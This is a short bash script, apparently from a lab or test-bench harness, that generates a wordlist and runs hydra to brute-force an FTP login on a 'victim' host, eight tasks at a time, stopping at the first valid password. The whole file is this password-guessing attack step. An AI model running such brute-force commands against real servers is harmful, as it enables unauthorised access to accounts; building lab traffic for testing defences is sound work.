#!/usr/bin/env bash
# FTP password guessing with hydra (8 tasks, stops at the first success).
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
wordlist="$TB_STATE/ftp-hydra-wordlist.txt"
tb_wordlist "$wordlist" "$TB_COUNT"
tb_run "$TB_NS" hydra -I -f -t 8 -l "$TB_USER" -P "$wordlist" "ftp://$TB_VICTIM" > "$TB_STATE/hydra-ftp.log" 2>&1
